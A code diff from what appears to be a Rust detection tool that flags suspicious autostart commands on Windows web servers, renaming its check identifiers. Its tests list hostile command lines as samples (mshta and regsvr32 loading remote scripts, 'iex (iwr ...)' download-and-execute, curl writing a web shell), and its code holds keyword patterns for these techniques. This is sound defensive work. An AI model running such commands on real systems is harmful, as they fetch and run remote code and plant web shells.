@@ -1,6 +1,8 @@
 //! What a command line or a script that runs by itself does to the web server: writes pages, runs from where no program belongs,
 //! hides or fetches what it runs. Names prove nothing (`\Microsoft\Windows\...` is anybody's to write), so commands alone are judged.
 
+pub(super) mod checks;
+
 use super::command_line::{
     COPIERS, UNPACK, UNPACKERS, WRITERS, has_encoded, is_absolute, is_library, is_page, normal, program, tokens_of,
     writes,
@@ -12,7 +14,7 @@ use crate::evidence::{Evidence, Resolver, classify};
 use crate::model::drop_folders::{self, Found};
 use crate::model::place::kind;
 use crate::model::server_path::{extension, fold, same_name};
-use crate::model::{Problem, ProblemKind, Reason, ReasonKind, Role, ServerPath};
+use crate::model::{CheckInfo, Problem, ProblemKind, Reason, Role, ServerPath};
 use std::io::Read;
 
 /// What is read of a script, a task or a list of scripts.
@@ -39,7 +41,7 @@ pub(super) struct Ground<'g, 'e> {
 /// One thing that speaks against a command.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(super) struct Sign {
-    pub(super) id: &'static str,
+    pub(super) check: &'static CheckInfo,
     pub(super) score: u8,
     words: &'static str,
 }
@@ -47,17 +49,17 @@ pub(super) struct Sign {
 impl Sign {
     /// A script among signed ones: somebody's own, or changed after setup.
     pub(super) fn unsigned() -> Self {
-        Self { id: "unsigned", score: 25, words: "has no signature, as the others here have" }
+        Self { check: &checks::UNSIGNED_SCRIPT, score: 25, words: "has no signature, unlike the others here" }
     }
 
     /// A library of PHP that lies nowhere near it.
     pub(super) fn extension() -> Self {
-        Self { id: "extension", score: 30, words: "one that lies outside of its folder" }
+        Self { check: &checks::PHP_EXTENSION_PATH, score: 30, words: "an extension outside its own folder" }
     }
 
     /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
     pub(super) fn prepended() -> Self {
-        Self { id: "prepended", score: 30, words: "runs a file before or after every page" }
+        Self { check: &checks::PHP_AUTO_PREPEND, score: 30, words: "runs a file before or after every page" }
     }
 }
 
@@ -302,9 +304,9 @@ impl<'g, 'e> Ground<'g, 'e> {
             text.lines().any(|line| of(line, one) && of(line, other))
         };
         let mut signs = Vec::new();
-        let mut add = |id, score, words| signs.push(Sign { id, score, words });
+        let mut add = |check, score, words| signs.push(Sign { check, score, words });
         if has(&["powershell", "pwsh"]) && has_encoded(text) {
-            add("encoded", 60, "runs an encoded command");
+            add(&checks::ENCODED_POWERSHELL, 60, "runs an encoded command");
         }
         // The signature that Exchange's own scripts end with is not checked here, so it clears nothing on one line.
         let signed = is_script && has(&["# sig # begin signature block"]);
@@ -324,27 +326,27 @@ impl<'g, 'e> Ground<'g, 'e> {
             "xmlhttp",
         ];
         if together(FETCHES, RUNS) {
-            add("runs_download", 75, "runs what it fetches");
+            add(&checks::DOWNLOADS_AND_EXECUTES, 75, "executes what it downloads");
         } else if has(FETCHES) && has(RUNS) && !signed {
-            add("runs_download", 50, "fetches something and runs text");
+            add(&checks::DOWNLOADS_AND_EXECUTES, 50, "downloads something and executes text");
         }
         if together(DECODES, RUNS) || together(DECODES, STORES) {
-            add("decoded", 65, "decodes what it runs or writes");
+            add(&checks::DECODES_PAYLOAD, 65, "decodes what it executes or writes");
         } else if has(DECODES) && (has(RUNS) || has(STORES)) && !signed {
-            add("decoded", 50, "decodes something, and runs or writes text");
+            add(&checks::DECODES_PAYLOAD, 50, "decodes something, and executes or writes text");
         }
         const ELSEWHERE: &[&str] = &["http:", "https:", "javascript:", "vbscript:", "scrobj"];
         if together(&["mshta", "rundll32", "regsvr32"], ELSEWHERE) {
-            add("script_of_elsewhere", 75, "lets a program of Windows run a script from elsewhere");
+            add(&checks::LOLBIN_REMOTE_SCRIPT, 75, "runs a remote script with a Windows program");
         }
         if together(&["certutil"], &["urlcache", "verifyctl", "decode"])
             || together(&["bitsadmin"], &["\\transfer", "\\addfile"])
             || !signed && has(&["downloadfile(", "start-bitstransfer"])
         {
-            add("fetches_file", 55, "fetches or unpacks a file by a program of Windows");
+            add(&checks::LOLBIN_DOWNLOAD, 55, "downloads or decodes a file with a Windows tool");
         }
         if has(&["<%@", "<%=", "runat=\"server\"", "runat=server", "<?php", "request.item[", "eval(request"]) {
-            add("holds_page", 75, "holds the code of a page");
+            add(&checks::CONTAINS_SERVER_CODE, 75, "contains server code");
         }
         let lines: Vec<&str> = text.split(['\n', '\r']).collect();
         // Exchange's own scripts handle its pages and configuration by variables; whole paths are nobody's but an intruder's.
@@ -353,9 +355,9 @@ impl<'g, 'e> Ground<'g, 'e> {
         let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
         let by_parts = is_script && !signed && has(WRITERS) && page_there();
         if writes_page || by_parts {
-            add("writes_page", 75, "writes server code");
+            add(&checks::WRITES_SERVER_CODE, 75, "writes server code");
         } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
-            add("writes_to_web_folder", 60, "writes into a web folder");
+            add(&checks::WRITES_TO_WEB_FOLDER, 60, "writes to a web folder");
         }
         signs
     }
@@ -395,22 +397,26 @@ impl<'g, 'e> Ground<'g, 'e> {
                 continue;
             }
             let sign = if path.starts_with("\\\\") {
-                Some(Sign { id: "elsewhere", score: 30, words: "runs what lies on another machine" })
+                Some(Sign {
+                    check: &checks::RUNS_FROM_REMOTE_HOST,
+                    score: 30,
+                    words: "runs what lies on a remote host",
+                })
             } else if is_stock_service(path) {
                 None
             } else if self.is_web(path) {
                 // Pages of PHP that a timer runs are ordinary.
                 let php = !is_program && kind::is_php(&extension(path));
                 Some(Sign {
-                    id: "in_web_folder",
+                    check: &checks::RUNS_FROM_WEB_FOLDER,
                     score: if php { 25 } else { 60 },
-                    words: "runs what lies in a web folder",
+                    words: "runs a program from a web folder",
                 })
             } else {
                 drop_folder(path).map(|score| Sign {
-                    id: "in_drop_folder",
+                    check: &checks::RUNS_FROM_DROP_FOLDER,
                     score,
-                    words: "runs what lies where no program belongs",
+                    words: "runs a program from a drop folder",
                 })
             };
             worst = sign.into_iter().chain(worst).max_by_key(|sign| sign.score);
@@ -441,10 +447,9 @@ fn drop_folder(path: &str) -> Option<u8> {
 /// Notes what speaks against a command of a file, which is examined then.
 pub(super) fn note(plan: &mut Plan, file: &ServerPath, signs: &[Sign], title: &str, excerpt: &str) {
     for sign in signs {
-        let title = format!("{title}{}", sign.words);
         let excerpt: String = excerpt.trim().chars().take(EXCERPT).collect();
-        let reason = Reason::new(ReasonKind::Config, &format!("autostart_{}", sign.id), sign.score, title)
-            .at(vec![crate::model::Location::without_place("stored", excerpt)]);
+        let locations = vec![crate::model::Location::without_place("stored", excerpt)];
+        let reason = Reason::new(sign.check, sign.score, format!("{title}{}", sign.words), locations);
         let noted = plan.noted.entry(file.clone()).or_default();
         if noted.len() < 20 && !noted.iter().any(|known| known.id == reason.id) {
             noted.push(reason);
@@ -489,10 +494,10 @@ mod tests {
         }
         let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
         let line = ground.plain(line);
-        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
+        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.check.name()).collect();
         if !is_script {
             let (program, tokens) = ground.placed(&line, "");
-            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.id));
+            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.check.name()));
         }
         signs
     }
@@ -500,35 +505,35 @@ mod tests {
     #[test]
     fn what_an_intruder_lets_run_is_seen_and_what_others_do_is_not() {
         for (line, expected) in [
-            (r"cmd /c copy C:\a.txt C:\sites\a\x.aspx", &["writes_page"][..]),
+            (r"cmd /c copy C:\a.txt C:\sites\a\x.aspx", &["writes_server_code"][..]),
             (r"cmd /c echo x > C:\sites\a\web.config", &["writes_to_web_folder"]),
             (r"xcopy C:\data\* C:\sites\a\img /y", &["writes_to_web_folder"]),
             (r"xcopy C:\sites\a\* D:\backup\ /y", &[]),
             (r"cmd /c dir /s C:\sites\a\*.aspx > C:\lists\all.txt", &[]),
-            (r"curl -o C:\sites\a\x.ashx http://203.0.113.9/x", &["writes_page"]),
+            (r"curl -o C:\sites\a\x.ashx http://203.0.113.9/x", &["writes_server_code"]),
             (r"curl http://203.0.113.9/x.aspx", &[]),
-            (r"certutil -decode C:\a.txt C:\sites\a\b", &["fetches_file", "writes_to_web_folder"]),
+            (r"certutil -decode C:\a.txt C:\sites\a\b", &["lolbin_download", "writes_to_web_folder"]),
             (r"mklink /d C:\sites\a\logs C:\logs", &["writes_to_web_folder"]),
-            (r#""C:\sites\a\bin\x.exe" -k"#, &["in_web_folder"]),
-            (r"C:\Windows\Temp\x.exe", &["in_drop_folder"]),
-            (r"C:\ProgramData\x.exe", &["in_drop_folder"]),
+            (r#""C:\sites\a\bin\x.exe" -k"#, &["runs_from_web_folder"]),
+            (r"C:\Windows\Temp\x.exe", &["runs_from_drop_folder"]),
+            (r"C:\ProgramData\x.exe", &["runs_from_drop_folder"]),
             (r"C:\ProgramData\Vendor\bin\x.exe", &[]),
-            (r"C:\Users\a\AppData\Roaming\x.vbs", &["in_drop_folder"]),
-            (r"rundll32.exe C:\Users\Public\x.dll,Start", &["in_drop_folder"]),
-            (r"\\203.0.113.9\share\x.exe", &["elsewhere"]),
-            ("powershell -ec SQBuAGUAcgB0AEkAbgBlAHIAdAA=", &["encoded"]),
+            (r"C:\Users\a\AppData\Roaming\x.vbs", &["runs_from_drop_folder"]),
+            (r"rundll32.exe C:\Users\Public\x.dll,Start", &["runs_from_drop_folder"]),
+            (r"\\203.0.113.9\share\x.exe", &["runs_from_remote_host"]),
+            ("powershell -ec SQBuAGUAcgB0AEkAbgBlAHIAdAA=", &["encoded_powershell"]),
             ("powershell -ExecutionPolicy Bypass -Encoding UTF8aaaaaaaaaaaaaaaaaaa", &[]),
-            ("mshta http://203.0.113.9/a.hta", &["script_of_elsewhere"]),
-            ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["script_of_elsewhere"]),
+            ("mshta http://203.0.113.9/a.hta", &["lolbin_remote_script"]),
+            ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["lolbin_remote_script"]),
             (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
             (r"C:\Ex\bin\MSExchangeMailboxReplication.exe", &[]),
-            (r"C:\Ex\FrontEnd\HttpProxy\owa\q.exe", &["in_web_folder"]),
-            (r"C:/sites/./a/b/../q.exe", &["in_web_folder"]),
-            (r"C:\\sites\\a. \\q.exe::$DATA -k", &["in_web_folder"]),
-            (r"\sites\a\q.exe", &["in_web_folder"]),
-            (r"cmd /c cd /d C:\sites\a && q.bat", &["in_web_folder"]),
+            (r"C:\Ex\FrontEnd\HttpProxy\owa\q.exe", &["runs_from_web_folder"]),
+            (r"C:/sites/./a/b/../q.exe", &["runs_from_web_folder"]),
+            (r"C:\\sites\\a. \\q.exe::$DATA -k", &["runs_from_web_folder"]),
+            (r"\sites\a\q.exe", &["runs_from_web_folder"]),
+            (r"cmd /c cd /d C:\sites\a && q.bat", &["runs_from_web_folder"]),
             (r"cmd /c cd /d C:\sites\a && php artisan schedule:run", &[]),
-            (r#"cmd /b /c start powershell -c "sc C:\sites\a\q.aspx 1""#, &["writes_page"]),
+            (r#"cmd /b /c start powershell -c "sc C:\sites\a\q.aspx 1""#, &["writes_server_code"]),
             ("sc.exe config w3svc start= auto", &[]),
             (r"7z x C:\data\a.7z -oC:\sites\a", &["writes_to_web_folder"]),
             (r"7z a D:\backup\a.7z C:\sites\a", &[]),
@@ -539,7 +544,10 @@ mod tests {
             signs("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
             [""; 0]
         );
-        assert_eq!(signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true), ["runs_download"]);
+        assert_eq!(
+            signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true),
+            ["downloads_and_executes"]
+        );
     }
 
     proptest::proptest! {
